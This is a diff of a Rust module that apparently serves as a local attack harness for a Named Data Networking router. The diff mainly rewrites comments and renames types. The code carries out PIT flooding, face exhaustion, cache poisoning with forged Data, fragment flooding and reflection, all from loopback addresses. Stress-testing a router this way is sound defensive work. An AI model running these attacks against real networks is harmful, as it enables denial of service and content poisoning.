@@ -10,57 +10,57 @@ use namely_wire::{
     DataBuilder, InterestBuilder, LpFraming, LpHeaders, Name, PACKET_OCTETS_MAX, encode_lp_header,
 };
 
-use super::pace::{Done, End, STEP, name, nonce};
-use crate::attacks::Place;
+use super::pace::{AttackCounts, End, STEP, name, nonce};
+use crate::attacks::RouterAddresses;
 
-/// Interests that pend, in all.
+/// Total number of pending Interests.
 const INTERESTS: u64 = 300_000;
 
-/// Peers that send them, each at an address of its own.
+/// Number of peers that send them, each from an address of its own.
 const PEERS: u64 = 12;
 
 /// An hour.
 const LIFETIME_MS: u64 = 3_600_000;
 
-/// Datagrams that each make a face.
+/// Number of datagrams, each of which creates a face.
 const SOURCES: u64 = 10_000;
 
-/// Objects of which false packets are pushed in a second: faster than the honest fetch, slow enough
-/// that the producer, which is asked for them, is not what is attacked.
+/// Objects per second of which false packets are sent. The rate exceeds that of the honest fetch.
+/// It is low enough that the attack does not overload the producer, which receives the Interests.
 const OBJECTS_PER_SECOND: f64 = 100.0;
 
 /// Content of a first fragment, octets.
 const FRAGMENT_OCTETS: usize = 1000;
 
-/// First fragments: twice what all faces together may keep.
+/// Number of first fragments: twice the limit of all faces together.
 const FRAGMENTS: u64 = 128 * 1024;
 
-/// Peers that send them.
+/// Number of peers that send them.
 const FRAGMENT_PEERS: u64 = 256;
 
-/// Interests a second in the name of an address that asked for nothing: 0.4 MB/s.
+/// Interests per second in the name of the victim's address, which requested nothing: 0.4 MB/s.
 const REFLECTED_PER_SECOND: f64 = 7000.0;
 
-/// The number of that address among the attacker's: others make faces.
+/// Index of the victim's address among the attacker's addresses. Lower ones create faces.
 const VICTIM: u64 = SOURCES;
 
-/// An address of this machine's own net that is the attacker's alone.
+/// Returns an address of this machine's own network that only the attacker uses.
 fn source(number: u64) -> Ipv4Addr {
     let number = number as u32;
     Ipv4Addr::from(u32::from(Ipv4Addr::new(127, 1, 0, 1)).wrapping_add(number))
 }
 
-fn peer(place: &Place, address: Ipv4Addr) -> io::Result<UdpSocket> {
+fn peer(place: &RouterAddresses, address: Ipv4Addr) -> io::Result<UdpSocket> {
     let socket = UdpSocket::bind((address, 0))?;
-    // A full buffer of this end's is no reason to wait.
+    // A full send buffer must not block the attacker.
     socket.set_nonblocking(true)?;
     socket.connect(place.udp)?;
     Ok(socket)
 }
 
-/// Interests of an hour, half of them for segments past the end of an object, half below a prefix
-/// whose upstream is silent. All peers but one go before the end.
-pub(super) fn pit(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends Interests with a lifetime of an hour: half of them for segments past the end of an object,
+/// half below a prefix whose upstream is silent. All peers but one close before the end.
+pub(super) fn pit(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let (object, silent) = (name(&place.object)?, name(&place.silent)?);
     let mut peers = Vec::new();
     for n in 0..PEERS {
@@ -78,23 +78,24 @@ pub(super) fn pit(place: &Place, end: &End) -> io::Result<Done> {
     Ok(BTreeMap::from([("interests", sent)]))
 }
 
-/// Two octets from each of ten thousand addresses.
-pub(super) fn faces(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends two octets from each of ten thousand addresses.
+pub(super) fn faces(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let sent = end.spread(SOURCES, 0.75, |n| peer(place, source(n))?.send(&[0x64, 0]).map(|_| ()));
     end.wait();
     Ok(BTreeMap::from([("sources", sent)]))
 }
 
-/// Data from a peer that was not asked: metadata, manifest and first segment of what the honest
-/// will ask for next. Another peer asks for them first, so that something pends.
-pub(super) fn poison(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends unsolicited Data: metadata, manifest and first segment of the next objects of the honest
+/// consumers. Another peer requests them first, so that Interests pend.
+pub(super) fn poison(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let (asker, poisoner) = (peer(place, source(0))?, peer(place, source(1))?);
     let objects = (end.length.as_secs_f64() * OBJECTS_PER_SECOND) as u64;
     let pushed = end.spread(objects.min(place.fresh_objects), 0.9, |n| {
         for (number, (asked, data)) in (n * 3..).zip(poisoned(place, n)?) {
             asker.send(&asked.nonce(nonce(number)).lifetime_ms(1000).build())?;
             poisoner.send(&data)?;
-            // The router reads one socket after the other: once more behind the Interest.
+            // The router reads one socket after the other. The second copy arrives behind the
+            // Interest.
             std::thread::sleep(Duration::from_micros(300));
             poisoner.send(&data)?;
         }
@@ -104,8 +105,8 @@ pub(super) fn poison(place: &Place, end: &End) -> io::Result<Done> {
     Ok(BTreeMap::from([("objects", pushed)]))
 }
 
-/// For each packet by which object `n` is found: an Interest, and false Data.
-fn poisoned(place: &Place, n: u64) -> io::Result<[(InterestBuilder, Vec<u8>); 3]> {
+/// Returns an Interest and false Data for each packet by which object `n` is found.
+fn poisoned(place: &RouterAddresses, n: u64) -> io::Result<[(InterestBuilder, Vec<u8>); 3]> {
     use namely_security::manifest_name;
     use namely_wire::rdr::{discovery_name, metadata_name};
     let object = name(&format!("{}/{n}", place.fresh))?;
@@ -122,14 +123,14 @@ fn poisoned(place: &Place, n: u64) -> io::Result<[(InterestBuilder, Vec<u8>); 3]
     ])
 }
 
-/// Data of a name with a digest in the place of a signature, fresh for an hour.
+/// Returns Data named `name`, fresh for an hour, with a digest in place of a signature.
 fn lie(name: &Name) -> io::Result<Vec<u8>> {
     let builder = DataBuilder::new(name.as_name()).freshness_ms(LIFETIME_MS);
     sign_data(&builder, b"not what you asked for", &Signer::digest_sha256()).map_err(io::Error::other)
 }
 
-/// First fragments of packets whose others never come.
-pub(super) fn fragments(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends first fragments of packets that are never completed.
+pub(super) fn fragments(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let mut peers = Vec::new();
     for n in 0..FRAGMENT_PEERS {
         peers.push(peer(place, source(n))?);
@@ -147,15 +148,16 @@ pub(super) fn fragments(place: &Place, end: &End) -> io::Result<Done> {
     Ok(BTreeMap::from([("fragments", sent)]))
 }
 
-/// Interests for segments of an object that is cached, from an address that answers nothing: to the
-/// router it is one whose owner asked for nothing. What arrives there is counted.
-pub(super) fn reflection(place: &Place, end: &End) -> io::Result<Done> {
+/// Sends Interests for segments of a cached object from an address that answers nothing. To the
+/// router, this is the address of a victim that requested nothing. Counts the octets that arrive
+/// there.
+pub(super) fn reflection(place: &RouterAddresses, end: &End) -> io::Result<AttackCounts> {
     let (object, victim) = (name(&place.object)?, peer(place, source(VICTIM))?);
     victim.set_nonblocking(false)?;
     victim.set_read_timeout(Some(STEP))?;
     let (mut sent_octets, arrived, end) = (0, victim.try_clone()?, *end);
     let started = std::time::Instant::now();
-    // All the time, since a socket's buffer holds little of what may come.
+    // Reads during the whole attack, because a socket's buffer holds only a small part of the Data.
     let reading = std::thread::spawn(move || {
         let (mut victim_octets, mut datagram) = (0, vec![0; 1 << 16]);
         while end.is_ahead() {
@@ -170,7 +172,7 @@ pub(super) fn reflection(place: &Place, end: &End) -> io::Result<Done> {
         sent_octets += interest.len() as u64;
         victim.send(&interest).map(|_| ())
     });
-    let victim_octets = reading.join().map_err(|_| io::Error::other("what counts what arrives has ended"))?;
+    let victim_octets = reading.join().map_err(|_| io::Error::other("the receiving thread has ended"))?;
     let kbit_s = (victim_octets as f64 * 8.0 / 1000.0 / started.elapsed().as_secs_f64()) as u64;
     Ok(BTreeMap::from([
         ("interests", sent),
@@ -185,7 +187,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn sources_differ_and_stay_on_this_machine() {
+    fn attack_sources_differ_and_stay_local() {
         let addresses: std::collections::BTreeSet<_> = (0..SOURCES).map(source).collect();
         assert_eq!(addresses.len() as u64, SOURCES);
         assert!(addresses.iter().all(|a| a.is_loopback() && *a != Ipv4Addr::LOCALHOST));
